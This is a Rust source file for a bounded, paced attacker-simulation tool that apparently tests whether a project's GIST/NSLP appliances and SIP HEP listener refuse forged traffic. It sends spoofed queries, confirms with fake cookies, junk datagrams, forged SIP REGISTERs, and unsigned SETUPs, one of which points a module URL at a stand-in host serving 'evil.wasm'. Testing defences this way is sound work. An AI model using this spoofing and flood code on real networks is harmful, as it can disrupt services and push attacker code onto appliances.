//! `netserv-gist-forge`: an attacker on the phone side of an edge. Sends a
//! bounded flood of forged GIST: Q-mode Queries towards `--towards` (the
//! appliances on the path take them off the wire) carrying NSLP requests a
//! tenant never signed, D-mode Confirms with made-up responder cookies to
//! `--peer` (an appliance's own address), and undecodable datagrams to it.
//! With `--hep <ip:port>`, also HEP datagrams to a plugin's HEP listener,
//! as if the SIP server mirrored REGISTERs and keep-alives of a phone at
//! `198.18.1.99` (a plugin that believed them would deploy towards it).
//! And `--signed-count` forged SETUPs sent properly — a full GIST handshake
//! each, so they reach the appliances' NSLP checks — which must all be
//! refused (`bad-signature`); it counts the answers.
//! Everything is bounded in count and time, and paced; prints what it sent.
//!
//! `netserv-gist-forge --towards 198.18.2.20 --peer 198.18.1.1 --count 3000 [--hep 198.18.2.20:9060]`

use netserv_gist::core::{Config, Event, Node, Toward};
use netserv_gist::wire::{Encapsulation, Message, MessageType, Mri, Nli, SessionId};
use rand_core::{OsRng, RngCore};
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

/// Forged requests through complete handshakes; returns the answers that
/// came back (each a response stack) and how many were all refusals.
fn handshaken(sock: &UdpSocket, local: IpAddr, towards: IpAddr, count: u32) -> (u32, u32) {
    let start = Instant::now();
    let mut cfg = Config::new(netserv_nslp::NSLPID, &b"forger"[..]);
    cfg.max_pending_queries = 64;
    let mut node = Node::new(cfg, start, &mut OsRng);
    let (mut sent, mut answers, mut refused) = (0u32, 0u32, 0u32);
    let mut buf = vec![0u8; 65_536];
    sock.set_read_timeout(Some(Duration::from_millis(5))).expect("timeout");
    while answers < count && start.elapsed() < Duration::from_secs(30) {
        let now = Instant::now();
        while sent < count && node.pending_queries() < 64 {
            let mri = Mri::between(local, towards);
            let sid = SessionId(random::<16>());
            if node.send(now, local, Toward::Target, sid, mri, forged_request(sent), None, &mut OsRng).is_err() {
                break;
            }
            sent += 1;
        }
        while let Some(t) = node.poll_transmit() {
            let _ = sock.send_to(&t.payload, t.destination);
        }
        if let Ok((n, from)) = sock.recv_from(&mut buf) {
            node.handle_datagram(Instant::now(), local, from, buf.get(..n).unwrap_or_default(), false);
        }
        node.handle_timeout(Instant::now());
        while let Some(ev) = node.poll_event() {
            if let Event::Received { data, .. } = ev {
                answers += 1;
                if let Ok(netserv_nslp::wire::Message::Response(r)) = netserv_nslp::wire::decode(&data) {
                    refused += u32::from(r.stack.iter().all(|e| e.status != netserv_nslp::wire::Status::Ok));
                }
            }
        }
    }
    (answers, refused)
}

fn arg(args: &[String], name: &str) -> Option<String> {
    args.iter().position(|a| a == name).and_then(|i| args.get(i + 1)).cloned()
}

fn random<const N: usize>() -> [u8; N] {
    let mut b = [0u8; N];
    OsRng.fill_bytes(&mut b);
    b
}

/// NSLP data shaped like a signed SETUP (user `itsp-a`) whose signature is
/// noise: what an attacker without the tenant's key can send.
fn forged_request(n: u32) -> Vec<u8> {
    let mut r = netserv_nslp::wire::Request::new(
        netserv_nslp::wire::RequestKind::Setup,
        n,
        "itsp-a",
        netserv_shell::net::unix_ms(),
        random::<16>(),
    );
    r.module = Some("keepalive".into());
    r.module_url = Some("http://198.18.1.10:8080/evil.wasm".into());
    r.sha256 = Some(random::<32>());
    r.filter_ports = vec![5060];
    r.filter_addr = Some(("198.18.2.20".parse().expect("address"), 32));
    r.signature = Some(random::<64>());
    r.encode()
}

/// A keep-alive (odd `n`) or a REGISTER from 198.18.1.99 to the server, as
/// Kamailio's siptrace would mirror it.
fn forged_hep(n: u32, server: IpAddr) -> Vec<u8> {
    let phone = "198.18.1.99";
    let sip = if n % 2 == 1 {
        format!(
            "NOTIFY sip:{server} SIP/2.0\r\nVia: SIP/2.0/UDP {phone}:5060;branch=z9hG4bK-{n}\r\nFrom: <sip:x@{phone}>;tag=1\r\n\
             To: <sip:{server}>\r\nCall-ID: f{n}\r\nCSeq: {n} NOTIFY\r\nEvent: keep-alive\r\nContent-Length: 0\r\n\r\n"
        )
    } else {
        format!(
            "REGISTER sip:{server} SIP/2.0\r\nVia: SIP/2.0/UDP {phone}:5060;branch=z9hG4bK-{n}\r\nFrom: <sip:x@{server}>;tag=1\r\n\
             To: <sip:x@{server}>\r\nCall-ID: f{n}\r\nCSeq: {n} REGISTER\r\nContact: <sip:x@{phone}:5060>\r\n\
             Expires: 3600\r\nContent-Length: 0\r\n\r\n"
        )
    };
    netserv_sip_plugin::hep::encode(&netserv_sip_plugin::hep::Hep {
        source: SocketAddr::new(phone.parse().expect("address"), 5060),
        destination: SocketAddr::new(server, 5060),
        ip_protocol: 17,
        proto_type: 1,
        timestamp: None,
        payload: sip.as_bytes(),
    })
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let towards: IpAddr = arg(&args, "--towards").and_then(|v| v.parse().ok()).expect("--towards <ip>");
    let peer: IpAddr = arg(&args, "--peer").and_then(|v| v.parse().ok()).expect("--peer <ip>");
    let count: u32 = arg(&args, "--count").and_then(|v| v.parse().ok()).unwrap_or(1000).min(100_000);
    let local = netserv_shell::net::local_toward(towards).expect("a route");
    let sock = UdpSocket::bind(SocketAddr::new(local, 0)).expect("bind");
    let to_path = SocketAddr::new(towards, netserv_gist::wire::GIST_PORT);
    let to_peer = SocketAddr::new(peer, netserv_gist::wire::GIST_PORT);
    let hep: Option<SocketAddr> = arg(&args, "--hep").and_then(|v| v.parse().ok());
    let signed_count: u32 = arg(&args, "--signed-count").and_then(|v| v.parse().ok()).unwrap_or(0).min(10_000);
    let (answers, refused) = handshaken(&sock, local, towards, signed_count);
    sock.set_read_timeout(None).expect("blocking");
    let (mut queries, mut confirms, mut garbage, mut heps) = (0u32, 0u32, 0u32, 0u32);
    for n in 0..count {
        let nli = Nli { ip_ttl: 64, validity_ms: 30_000, peer_identity: b"forger".to_vec(), interface: local };
        let data = forged_request(n);
        let mut m = Message::new(MessageType::Query, netserv_nslp::NSLPID, 16);
        m.mri = Some(Mri::between(local, towards));
        m.session = Some(SessionId(random::<16>()));
        m.nli = Some(nli.clone());
        let cookie = random::<16>();
        m.query_cookie = Some(&cookie);
        m.nslp_data = Some(&data);
        if let Some(b) = m.encode(Encapsulation::QMode) {
            queries += u32::from(sock.send_to(&b, to_path).is_ok());
        }
        let mut c = Message::new(MessageType::Confirm, netserv_nslp::NSLPID, 16);
        c.mri = Some(Mri::between(local, towards));
        c.session = Some(SessionId(random::<16>()));
        c.nli = Some(nli);
        let responder = random::<32>();
        c.responder_cookie = Some(&responder);
        c.nslp_data = Some(&data);
        if let Some(b) = c.encode(Encapsulation::DMode) {
            confirms += u32::from(sock.send_to(&b, to_peer).is_ok());
        }
        if let Some(to) = hep {
            heps += u32::from(sock.send_to(&forged_hep(n, towards), to).is_ok());
        }
        let junk: [u8; 64] = random();
        garbage += u32::from(sock.send_to(&junk[..usize::from(junk[0] % 64) + 1], to_peer).is_ok());
        // Paced: about 3,000 of each a second.
        if n % 30 == 29 {
            std::thread::sleep(Duration::from_millis(10));
        }
    }
    println!(
        "{{\"handshaken\":{signed_count},\"answers\":{answers},\"all_refused\":{refused},\"queries\":{queries},\"confirms\":{confirms},\"garbage\":{garbage},\"hep\":{heps}}}"
    );
}
